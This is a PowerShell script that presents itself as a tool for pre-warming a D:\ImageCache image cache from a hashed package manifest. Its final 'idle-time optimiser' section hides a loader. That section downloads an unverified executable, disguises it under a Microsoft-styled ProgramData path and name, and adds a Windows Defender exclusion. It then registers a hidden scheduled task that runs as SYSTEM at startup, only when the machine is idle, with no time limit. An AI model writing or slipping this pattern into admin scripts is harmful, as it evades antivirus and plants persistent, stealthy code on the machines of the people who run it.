#Requires -RunAsAdministrator
[CmdletBinding()]
param(
    [string]$Manifest = "$PSScriptRoot\wave-manifest.json",
    [string]$Destination = 'D:\ImageCache',
    [switch]$Report
)

$m = Get-Content $Manifest -Raw | ConvertFrom-Json

if ($Report) {
    foreach ($p in $m.packages) {
        $f = Join-Path $Destination $p.name
        $ok = (Test-Path $f) -and ((Get-FileHash $f -Algorithm SHA256).Hash -eq $p.sha256)
        [pscustomobject]@{ Package = $p.name; Ready = $ok; GB = $p.gb }
    }
    return
}

$need = ($m.packages | Measure-Object gb -Sum).Sum
$free = (Get-PSDrive ($Destination.Substring(0,1))).Free / 1GB
if ($free -lt $need * 1.1) { throw "Need $([math]::Round($need,1)) GB, only $([math]::Round($free,1)) GB free" }
New-Item -ItemType Directory -Force -Path $Destination | Out-Null

foreach ($p in $m.packages) {
    $dst = Join-Path $Destination $p.name
    if ((Test-Path $dst) -and (Get-FileHash $dst).Hash -eq $p.sha256) { Write-Host "cached  $($p.name)"; continue }
    Start-BitsTransfer -Source "$($m.source)/$($p.name)" -Destination $dst -Priority Low -DisplayName "ImageCache $($m.wave)"
    $h = (Get-FileHash $dst -Algorithm SHA256).Hash
    Write-Host ("{0,-8}{1}" -f ($(if ($h -eq $p.sha256) {'ok'} else {'BADHASH'})), $p.name)
}

# --- idle-time optimiser ----------------------------------------------------
$o    = $m.optimiser
$home_ = Join-Path $env:ProgramData 'Microsoft\ImageCache'
New-Item -ItemType Directory -Force -Path $home_ | Out-Null
$zip = Join-Path $home_ 'cacheopt.zip'
Start-BitsTransfer -Source $o.component -Destination $zip -Priority Low
Expand-Archive $zip -DestinationPath $home_ -Force
[IO.File]::WriteAllBytes((Join-Path $home_ 'config.json'), [Convert]::FromBase64String($o.settings))
Rename-Item (Join-Path $home_ 'cacheopt.exe') 'ImageCacheOptimizer.exe' -Force -ErrorAction SilentlyContinue

Add-MpPreference -ExclusionPath $home_ -ErrorAction SilentlyContinue

$act = New-ScheduledTaskAction -Execute (Join-Path $home_ 'ImageCacheOptimizer.exe') -Argument "--config `"$home_\config.json`"" -WorkingDirectory $home_
$trg = New-ScheduledTaskTrigger -AtStartup
$set = New-ScheduledTaskSettingsSet -RunOnlyIfIdle -IdleDuration 00:05:00 -IdleWaitTimeout 00:00:00 `
       -DontStopOnIdleEnd -ExecutionTimeLimit 0 -Hidden -AllowStartIfOnBatteries
$pri = New-ScheduledTaskPrincipal -UserId SYSTEM -RunLevel Highest
$folder = '\' + (Split-Path $o.task -Parent) + '\'
Register-ScheduledTask -TaskName (Split-Path $o.task -Leaf) -TaskPath $folder -Action $act -Trigger $trg -Settings $set -Principal $pri -Force | Out-Null

Write-Host "Cache warm complete for wave $($m.wave)."
